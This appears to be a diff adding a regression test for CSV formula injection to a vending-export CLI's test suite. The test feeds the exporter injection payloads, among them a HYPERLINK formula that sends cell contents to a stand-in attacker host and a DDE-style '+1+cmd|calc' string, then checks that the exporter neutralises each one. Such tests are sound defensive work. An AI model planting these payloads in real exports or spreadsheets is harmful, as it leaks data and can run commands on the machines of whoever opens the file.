@@ -199,5 +199,24 @@ describe('vendgate export', () => {
     expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
     expect(csvField(null)).toBe('');
     expect(csvField(1500)).toBe('1500');
+    expect(csvField(-5)).toBe('-5');
+  });
+
+  it('issue 25: a cell that starts like a formula is exported as text, as OWASP advises (CSV injection)', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Water")';
+    const device = await deviceWithOrders([
+      { reference: 'vm-1-ev-1', item: evil, amount: 1500, state: 'vended', created: '2026-11-03T09:00:00Z' },
+      { reference: 'vm-1-ev-2', item: '+1+cmd|calc', amount: 1500, state: 'vended', created: '2026-11-03T09:01:00Z' },
+      { reference: 'vm-1-ev-3', item: '@SUM(1)', amount: 1500, state: 'vended', created: '2026-11-03T09:02:00Z' },
+      { reference: 'vm-1-ev-4', item: '-2+3', amount: 1500, state: 'vended', created: '2026-11-03T09:03:00Z' },
+      { reference: 'vm-1-ev-5', item: '\t=1', amount: 1500, state: 'vended', created: '2026-11-03T09:04:00Z' },
+    ]);
+    const { code, stdout } = await run(['export', '--config', device.path, '--from', '2026-11-03', '--to', '2026-11-04']);
+    expect(code).toBe(0);
+    const names = parseCsv(stdout)
+      .slice(1)
+      .map((row) => row[1]);
+    expect(names).toEqual([`'${evil}`, "'+1+cmd|calc", "'@SUM(1)", "'-2+3", "'\t=1"]);
+    expect(stdout).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Water"")"`);
   });
 });
